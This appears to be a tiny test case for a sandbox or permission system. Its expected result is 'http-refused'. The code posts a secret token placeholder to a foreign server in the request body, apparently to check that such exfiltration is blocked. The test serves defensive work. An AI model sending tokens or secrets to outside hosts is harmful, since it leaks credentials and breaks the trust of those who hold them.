// expect: http-refused
// Sends it to another server in the body.
httpPost(claims.system.foreign + '/', '%SECRET:TOKEN%');
return true;
